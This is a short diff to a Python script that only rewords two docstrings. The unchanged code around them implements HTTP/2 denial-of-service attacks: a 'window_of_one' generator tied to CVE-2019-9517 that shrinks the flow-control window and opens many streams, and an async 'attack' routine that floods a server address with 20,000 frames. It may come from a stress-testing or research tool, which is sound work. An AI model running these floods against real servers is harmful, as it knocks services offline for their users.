@@ -77,7 +77,7 @@ def priority_flood(n):
 
 
 def window_of_one(n):
-    """CVE-2019-9517: open streams, and take nothing of what is answered."""
+    """CVE-2019-9517: open streams, and read no answers."""
     yield h.frame(h.SETTINGS, 0, 0, struct.pack(">HI", 4, 1))
     for index in range(n // 100):
         stream = 2 * index + 1
@@ -166,7 +166,7 @@ FRAMES = 20_000
 
 
 async def attack(address, frames):
-    """Send frames and take what comes back until all are sent or the server hangs up; what was sent, in frames."""
+    """Send frames and read the answers until all are sent or the server hangs up; return the number of sent frames."""
     reader, writer = await asyncio.open_connection(*address.rsplit(":", 1))
 
     async def take():
